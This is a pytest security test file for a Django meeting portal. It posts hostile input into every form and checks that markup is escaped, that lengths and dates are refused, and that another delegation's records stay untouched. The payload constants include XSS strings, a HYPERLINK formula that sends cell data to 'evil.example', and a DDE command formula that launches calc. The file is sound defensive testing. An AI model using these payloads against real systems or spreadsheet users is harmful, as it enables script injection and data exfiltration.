"""Hostile input in every form of the portal, found through the permission matrix.

For each page of ``MATRIX`` that some role opens (200), the page is read as a browser
reads it: every ``<form method="post">`` and the values it would send. Signed in as the
least privileged role that opens the page, each text-like field in turn gets markup,
spreadsheet formulas, an over-long text, a right-to-left override, impossible dates and,
for fields that carry ids, the id of another delegation's record or of none. Every case
runs in a savepoint rolled back afterwards, so one seeded demo serves every case of a page.

Each case must answer below 500, redisplay the form with a message or succeed, never
show the markup unescaped (in the answer, the page again and the page it leads to), never
store a U+202E override, never store more text than a field holds, refuse impossible
dates with a message, and leave Barbados's records as they were.
"""

import re
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models, transaction
from django.db.models import Q
from django.db.models.functions import Length
from django.db.models.lookups import GreaterThan
from django.test import Client
from django.urls import Resolver404, resolve

from cidi_meeting.text import LONG_TEXT_MAX_LENGTH
from tests.speakers.factories import PDF_BYTES
from tests.test_permissions import MATRIX, ROLES, sign_in

# The least privileged role first: the first that opens a page posts its forms.
ROLES_BY_PRIVILEGE = [
    "anonymous",
    "delegate",
    "focal_point_a",
    "focal_point_b",
    "moderator",
    "secretariat",
]
assert sorted(ROLES_BY_PRIVILEGE) == sorted(ROLES)

# Forms that are not the portal's input, each with the reason it is left out.
NOT_TESTED_ACTIONS = {
    "account_logout": "signing out takes no input",
    "set_language": "the language switcher only chooses among the portal's languages",
}

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
COMMAND = "+cmd|' /C calc'!A0"
OVER_LONG = "Long" + "x" * 100_000
RTL = "Ana \u202egnaW\u202c Pérez"
FAR_FUTURE, FAR_PAST, IMPOSSIBLE = "9999-12-31", "0001-01-01", "2026-02-30"
MISSING_ID = "987654321"

TEXT_PAYLOADS = [SCRIPT, IMAGE, HYPERLINK, COMMAND, OVER_LONG, RTL]
DATE_PAYLOADS = [FAR_FUTURE, FAR_PAST, IMPOSSIBLE]
TEXT_TYPES = {"text", "textarea", "email", "url", "search", "number", "tel", "password"}
DATE_TYPES = {"date", "datetime-local", "time"}
# What a browser shows in an empty field of each type, so that a form can be sent whole.
SAMPLE_VALUES = {
    "email": "sample@example.org",
    "url": "https://example.org/",
    "number": "1",
    "date": "2022-11-17",
    "datetime-local": "2022-11-17T10:00",
    "time": "10:00",
}
ERROR_MARKERS = ("invalid-feedback", "errorlist", 'role="alert"', "alert-danger", "is-invalid")


# Reading forms as a browser does ------------------------------------------------------------


@dataclass
class Field:
    name: str
    kind: str  # the input type, "select", "textarea" or "file"
    value: str = ""
    required: bool = False
    options: list = field(default_factory=list)
    multiple: bool = False


@dataclass
class Form:
    action: str
    fields: list = field(default_factory=list)
    submit: tuple = ()

    def data(self):
        """Return what the browser sends: one list of values per name, files apart."""
        values = {}
        for item in self.fields:
            if item.kind == "file":
                values[item.name] = [SimpleUploadedFile("letter.pdf", PDF_BYTES)]
            elif item.value is not None:
                values.setdefault(item.name, []).append(item.value)
        if self.submit:
            values.setdefault(self.submit[0], []).append(self.submit[1])
        return values

    def signature(self):
        names = sorted({item.name for item in self.fields if item.name != "csrfmiddlewaretoken"})
        return (route_of(self.action), tuple(names))


class FormReader(HTMLParser):
    """Collect the post forms of a page with the values a browser would submit."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms = []
        self.form = None
        self.select = None
        self.textarea = None
        self.option = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            if (attrs.get("method") or "get").lower() == "post":
                self.form = Form(action=attrs.get("action") or "")
            return
        if self.form is None:
            return
        name = attrs.get("name")
        if tag == "input" and name and "disabled" not in attrs:
            kind = (attrs.get("type") or "text").lower()
            if kind in {"submit", "image", "button", "reset"}:
                if not self.form.submit:
                    self.form.submit = (name, attrs.get("value") or "")
                return
            if kind in {"checkbox", "radio"} and "checked" not in attrs:
                self.form.fields.append(Field(name, kind, None, options=[attrs.get("value")]))
                return
            value = attrs.get("value") or ("on" if kind in {"checkbox", "radio"} else "")
            self.form.fields.append(Field(name, kind, value, "required" in attrs))
        elif tag == "button" and name and (attrs.get("type") or "submit") == "submit":
            if not self.form.submit:
                self.form.submit = (name, attrs.get("value") or "")
        elif tag == "select" and name and "disabled" not in attrs:
            self.select = Field(name, "select", None, "required" in attrs)
            self.select.multiple = "multiple" in attrs
            self.form.fields.append(self.select)
        elif tag == "option" and self.select is not None:
            self.close_option()
            self.option = {"value": attrs.get("value"), "text": "", "selected": "selected" in attrs}
        elif tag == "textarea" and name and "disabled" not in attrs:
            self.textarea = Field(name, "textarea", "", "required" in attrs)
            self.form.fields.append(self.textarea)

    def handle_data(self, data):
        if self.textarea is not None:
            self.textarea.value += data
        elif self.option is not None:
            self.option["text"] += data

    def handle_endtag(self, tag):
        if tag == "form" and self.form is not None:
            self.forms.append(self.form)
            self.form = None
        elif tag == "textarea":
            if self.textarea is not None and self.textarea.value.startswith("\n"):
                self.textarea.value = self.textarea.value[1:]
            self.textarea = None
        elif tag == "option" and self.select is not None:
            self.close_option()
        elif tag == "select" and self.select is not None:
            self.close_option()
            if self.select.value is None and self.select.options and not self.select.multiple:
                self.select.value = self.select.options[0]
            self.select = None

    def close_option(self):
        if self.option is None:
            return
        option, self.option = self.option, None
        value = option["value"] if option["value"] is not None else option["text"].strip()
        self.select.options.append(value)
        if not option["selected"]:
            return
        if self.select.value is None:
            self.select.value = value
        elif self.select.multiple:
            self.form.fields.append(Field(self.select.name, "select", value))


def post_forms(html):
    reader = FormReader()
    reader.feed(html)
    reader.close()
    return reader.forms


def route_of(path):
    try:
        return resolve(urlsplit(path).path).view_name
    except Resolver404:
        return None


# What the database holds --------------------------------------------------------------------


def text_columns():
    """Return {model: [field, ...]} of the character and text columns of every model."""
    columns = {}
    for model in apps.get_models():
        if model._meta.proxy or not model._meta.managed:
            continue
        for model_field in model._meta.concrete_fields:
            if isinstance(model_field, (models.CharField, models.TextField)):
                columns.setdefault(model, []).append(model_field)
    return columns


def rows_containing(text):
    """Return the models with a row whose text contains ``text`` (one query per model)."""
    found = []
    for model, fields in text_columns().items():
        anywhere = Q()
        for model_field in fields:
            anywhere |= Q(**{f"{model_field.attname}__contains": text})
        if model._default_manager.filter(anywhere).exists():
            found.append(model._meta.label)
    return found


def rows_longer_than_their_field():
    """Return the models with a row holding more text than a field's ``max_length``.

    The database refuses such a value in a character column (a server error, found
    anyway); a text column has no limit of its own, and every form gives it the portal's
    (``LONG_TEXT_MAX_LENGTH``): a paste gone wrong is refused, never stored.
    """
    found = []
    for model, fields in text_columns().items():
        too_long = Q()
        for model_field in fields:
            limit = model_field.max_length or LONG_TEXT_MAX_LENGTH
            too_long |= Q(GreaterThan(Length(model_field.attname), limit))
        if too_long and model._default_manager.filter(too_long).exists():
            found.append(model._meta.label)
    return found


def barbados_snapshot(meeting):
    """Return every row of Barbados's delegation, as values, to compare before and after."""
    from delegations.models import (
        CredentialsLetter,
        Delegation,
        DelegationMember,
        FloorRequest,
    )
    from outcomes.models import CooperationItem, CooperationMatch, GoodPractice

    barbados = Delegation.objects.get(meeting=meeting, member_state__iso2="BB")
    querysets = [
        Delegation.objects.filter(pk=barbados.pk),
        DelegationMember.objects.filter(delegation=barbados),
        FloorRequest.objects.filter(delegation=barbados),
        FloorRequest.objects.filter(member__delegation=barbados),
        CredentialsLetter.objects.filter(delegation=barbados),
        GoodPractice.objects.filter(delegation=barbados),
        CooperationItem.objects.filter(delegation=barbados),
        CooperationMatch.objects.filter(offer__delegation=barbados),
        CooperationMatch.objects.filter(need__delegation=barbados),
    ]
    return [sorted(map(repr, queryset.order_by("pk").values())) for queryset in querysets]


def barbados_ids(meeting):
    """Return, per form field name, the id of Barbados's record of that kind."""
    from delegations.models import Delegation, DelegationMember
    from outcomes.models import CooperationItem, GoodPractice
    from tests.outcomes.factories import GoodPracticeFactory

    barbados = Delegation.objects.get(meeting=meeting, member_state__iso2="BB")
    member = DelegationMember.objects.create(
        delegation=barbados, full_name="Barbados head", role="head", email="bb.head@example.org"
    )
    practice = GoodPractice.objects.filter(delegation=barbados).first() or GoodPracticeFactory(
        delegation=barbados
    )
    item = CooperationItem.objects.filter(delegation=barbados).first()
    ids = {
        "delegation": barbados.pk,
        "member": member.pk,
        "members": member.pk,
        "practice": practice.pk,
    }
    if item is not None:
        ids.update(offer=item.pk, need=item.pk, cooperation_item=item.pk, item=item.pk)
    return ids


# The pages and their cases ------------------------------------------------------------------


def opened_by(expected):
    """Return the least privileged role that opens a page (200), or None."""
    for role in ROLES_BY_PRIVILEGE:
        if expected.get(role, expected.get("focal_point")) == 200:
            return role
    return None


PAGES = sorted(
    (name, path, opened_by(expected))
    for name, (path, expected) in MATRIX.items()
    if opened_by(expected)
)
# Paths opened by some role: a form that posts to one of them is tested on its own page.
OWN_PAGES = {name for name, _path, _role in PAGES}


def is_id_like(item):
    if item.kind in {"select", "checkbox", "radio"}:
        return True
    if item.kind == "hidden":
        return bool(re.search(r"(^|_)(id|pk|ids)$", item.name)) or item.value.isdigit()
    return False


def cases_for(item, other_ids):
    """Yield (label, value) for every hostile value one field gets."""
    if item.name == "csrfmiddlewaretoken" or item.kind == "file":
        return
    if item.kind in TEXT_TYPES or item.kind in {"select", "hidden"}:
        for payload in TEXT_PAYLOADS:
            yield payload[:20], payload
    if item.kind in DATE_TYPES:
        for date in DATE_PAYLOADS:
            if item.kind == "datetime-local":
                yield date, f"{date}T10:00"
            elif item.kind == "time":
                yield date, {FAR_FUTURE: "99:99", FAR_PAST: "-1:00", IMPOSSIBLE: "24:61"}[date]
            else:
                yield date, date
        yield SCRIPT[:20], SCRIPT
    if is_id_like(item):
        yield "missing id", MISSING_ID
        base = re.sub(r"(_id|_pk|_ids|s)$", "", item.name)
        other = other_ids.get(item.name, other_ids.get(base))
        if other is not None:
            yield "Barbados's id", str(other)


def fill_required(form):
    """Give every empty required field a plain value, as a person filling the form would."""
    for item in form.fields:
        if item.value in (None, "") and item.required:
            if item.kind == "select":
                item.value = next((option for option in item.options if option), "")
            elif item.kind == "textarea":
                item.value = "Sample text"
            else:
                item.value = SAMPLE_VALUES.get(item.kind, "Sample")


def has_error(html):
    return any(marker in html for marker in ERROR_MARKERS)


class MarkupFinder(HTMLParser):
    """Find the hostile payloads' elements among the elements a browser would build."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "onerror" in attrs:
            self.found.append(f"<{tag} onerror={attrs['onerror']}>")
        if tag == "img" and attrs.get("src") == "x":
            self.found.append("<img src=x>")
        self.in_script = tag == "script"

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if self.in_script and "alert(1)" in data:
            self.found.append(f"<script>{data}</script>")


def unescaped_markup(html):
    """Return the hostile elements that ``html`` carries as markup, if any."""
    finder = MarkupFinder()
    finder.feed(html)
    finder.close()
    return finder.found


def page_of(response):
    return response.content.decode(errors="replace") if response.content else ""


@dataclass
class Page:
    """A page under test: who posts its forms and what must not change meanwhile."""

    client: Client
    path: str
    meeting: object
    barbados: list
    statuses: Counter = field(default_factory=Counter)


def run_case(page, form, name, value, label):
    """Post ``form`` with field ``name`` replaced by ``value``; return what went wrong."""
    data = form.data()
    data[name] = [value]
    action = urljoin(page.path, form.action) if form.action else page.path
    where = f"{route_of(action)} {name}={label!r}"
    with transaction.atomic():
        try:
            response = page.client.post(action, data)
        except Exception as error:  # noqa: BLE001 - a server error is the finding
            problems = [f"{where}: 500 {type(error).__name__}: {str(error)[:200]}"]
        else:
            page.statuses[response.status_code] += 1
            problems = [f"{where}: {problem}" for problem in findings(page, response, value)]
            if label in ("missing id", "Barbados's id"):
                if barbados_snapshot(page.meeting) != page.barbados:
                    problems.append(f"{where}: Barbados's records changed")
        transaction.set_rollback(True)
    return problems


def findings(page, response, value):
    """Yield what is wrong with the answer to a form sent with ``value``, and after it."""
    html = page_of(response)
    status = response.status_code
    if status >= 500 and not (status == 503 and value in html):
        yield f"answered {status}"
        return
    if value in (SCRIPT, IMAGE):
        shown = [("answer", html)]
        # A form sent back with its errors stored nothing: only the answer shows the value.
        if not (status == 200 and has_error(html)):
            shown.append(("page again", page_of(page.client.get(page.path))))
        if status in (301, 302, 303) and urlsplit(response["Location"]).path:
            target = urlsplit(response["Location"]).path
            shown.append((target, page_of(page.client.get(target))))
        for place, text in shown:
            for element in unescaped_markup(text):
                yield f"{element} unescaped in {place}"
    if value == RTL and (stored := rows_containing("\u202e")):
        yield f"U+202E stored in {stored}"
    if value == OVER_LONG and (stored := rows_longer_than_their_field()):
        yield f"stored beyond max_length in {stored}"
    if value.startswith(IMPOSSIBLE) and status < 400 and not (status == 200 and has_error(html)):
        yield f"impossible date not refused with a message ({status})"


PAGE_NAMES = [name for name, _path, _role in PAGES]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.SECRETARIAT_REQUIRES_MFA = False


def floor_open_to_panama(meeting):
    """Accredit Panama and open the dialogue, so that its page shows the request form."""
    from tests.delegations.floor_factories import delegation, dialogue

    dialogue(meeting)
    delegation(meeting, "PA")


def practice_submitted(meeting):
    """Submit the demo's draft practice, so that its review page shows the review form."""
    from outcomes.enums import PracticeStatus
    from outcomes.models import GoodPractice

    GoodPractice.objects.filter(meeting=meeting, status=PracticeStatus.DRAFT).update(
        status=PracticeStatus.SUBMITTED
    )


# Pages that show their form only in a state the demo does not start in.
PREPARE = {
    "delegations:floor_request_add": floor_open_to_panama,
    "outcomes:practice_review": practice_submitted,
}

NOT_HTML = "not an HTML page (a file, a feed or JSON)"
READ_ONLY = "a page to read: its only forms post to pages tested on their own"
# Pages opened by some role that hold no form of their own, and why. Checked below, so
# that a page which gains a form leaves this list and gets its hostile cases.
WITHOUT_OWN_FORM = {
    "agenda:concept_note": NOT_HTML,
    "documents:register": READ_ONLY,
    "api:meeting_list": NOT_HTML,
    "api:meeting_detail": NOT_HTML,
    "api:meeting_documents": NOT_HTML,
    "api:cooperation_matrix": NOT_HTML,
    "api:practice_list": NOT_HTML,
    "api:practice_detail": NOT_HTML,
    "api:schema": NOT_HTML,
    "api:reference": READ_ONLY,
    "documents:register_file": NOT_HTML,
    "agenda:meeting_ics": NOT_HTML,
    "delegations:credentials_download": NOT_HTML,
    "delegations:participants_csv": NOT_HTML,
    "documents:document_download": NOT_HTML,
    "healthz": NOT_HTML,
    "live:console_state": NOT_HTML,
    "live:display_state": NOT_HTML,
    "live:console_session_state": NOT_HTML,
    "live:display_session_state": NOT_HTML,
    "live:display_session": READ_ONLY,
    "outcomes:compendium_csv": NOT_HTML,
    "outcomes:compendium_json": NOT_HTML,
    "outcomes:practice_attachment": NOT_HTML,
    "speakers:invitation_statement": NOT_HTML,
    "speakers:slot_ics": NOT_HTML,
    "speakers:statement_download": NOT_HTML,
    "accounts:list": READ_ONLY,
    "agenda:content_languages": READ_ONLY,
    "agenda:editor_list": READ_ONLY,
    "agenda:meeting_history": READ_ONLY,
    "delegations:my_delegations": READ_ONLY,
    "inclusion:figures": READ_ONLY,
    "inclusion:declaration_mine": "the matrix's delegate has no record to declare for; "
    "its forms hold only radio buttons and checkboxes; tests/inclusion/test_declarations.py",
    "delegations:participants": READ_ONLY,
    "directory:organization_list": READ_ONLY,
    "directory:person_list": READ_ONLY,
    "documents:document_status": READ_ONLY,
    "home": READ_ONLY,
    "live:display": READ_ONLY,
    "live:timekeeping": READ_ONLY,
    "meeting_statements": READ_ONLY,
    "outcomes:compendium": "its search form is a GET (tests/outcomes/test_compendium.py)",
    "outcomes:cooperation_matrix": READ_ONLY,
    "outcomes:outcome_list": READ_ONLY,
    "outcomes:practice_detail": READ_ONLY,
    "outcomes:practice_list_own": READ_ONLY,
    "outcomes:review_list": READ_ONLY,
    "security_log": READ_ONLY,
    # Forms that hold no text: only ids chosen by the portal, each tested for another
    # delegation's or an unknown id where it is posted.
    "delegations:member_access": "its form (shown signed in under the member's address) "
    "holds no field; tests/delegations/test_member_access.py",
    "directory:person_merge": "its form posts one person's id chosen from the list; "
    "tests/directory/test_views.py",
    "speakers:invite_all": "its form posts only the ids of the slots to invite; "
    "tests/speakers/test_invite_all.py",
}
FORM_PAGES = [name for name in PAGE_NAMES if name not in WITHOUT_OWN_FORM]


def open_page(name, url_values, demo_meeting):
    """Sign in as the least privileged role that opens the page; return client, path, answer."""
    _name, path, role = next(page for page in PAGES if page[0] == name)
    client = Client()
    sign_in(client, role)
    page_path = path.format(**url_values)
    if name in PREPARE:
        PREPARE[name](demo_meeting)
    response = client.get(page_path)
    assert response.status_code == 200, (name, role, response.status_code)
    return client, page_path, response


def own_forms(name, page_path, response):
    """Yield (form, target) for each form of the page that posts to the page itself or to
    a URL no page opens (a form is tested where it is shown)."""
    if "html" not in response.get("Content-Type", ""):
        return
    for form in post_forms(page_of(response)):
        action = urljoin(page_path, form.action) if form.action else page_path
        target = route_of(action)
        if target in NOT_TESTED_ACTIONS:
            print(f"{name}: left out {target}: {NOT_TESTED_ACTIONS[target]}")
            continue
        if target != name and target in OWN_PAGES:
            continue  # Tested on its own page.
        yield form, target


def test_the_pages_listed_without_a_form_have_none(url_values, demo_meeting):
    with_forms = []
    for name, reason in WITHOUT_OWN_FORM.items():
        if name not in PAGE_NAMES:
            with_forms.append(f"{name}: no longer a page of the matrix")
            continue
        _client, page_path, response = open_page(name, url_values, demo_meeting)
        found = list(own_forms(name, page_path, response))
        if reason in (NOT_HTML, READ_ONLY) and found:
            with_forms.append(f"{name}: has a form to {found[0][1]}")
    assert with_forms == []


@pytest.mark.parametrize("name", FORM_PAGES)
def test_every_form_refuses_or_stores_hostile_input_safely(name, url_values, demo_meeting):
    client, page_path, response = open_page(name, url_values, demo_meeting)
    assert "html" in response.get("Content-Type", ""), f"{name} is not an HTML page"
    other_ids = barbados_ids(demo_meeting)
    page = Page(client, page_path, demo_meeting, barbados_snapshot(demo_meeting))

    seen = set()
    problems, cases, forms = [], 0, 0
    for form, target in own_forms(name, page_path, response):
        if form.signature() in seen:
            continue
        seen.add(form.signature())
        forms += 1
        print(f"{name}: form to {target} with {', '.join(form.signature()[1])}")
        fill_required(form)
        for item in form.fields:
            for label, value in cases_for(item, other_ids):
                if label == "Barbados's id":
                    print(f"{name}: {item.name} given Barbados's id {value}")
                cases += 1
                problems += run_case(page, form, item.name, value, label)
    print(f"{name}: {forms} forms, {cases} cases, answers {dict(page.statuses)}")
    assert forms, f"{name} shows no form of its own: list it in WITHOUT_OWN_FORM, with why"
    assert problems == [], "\n".join(problems)
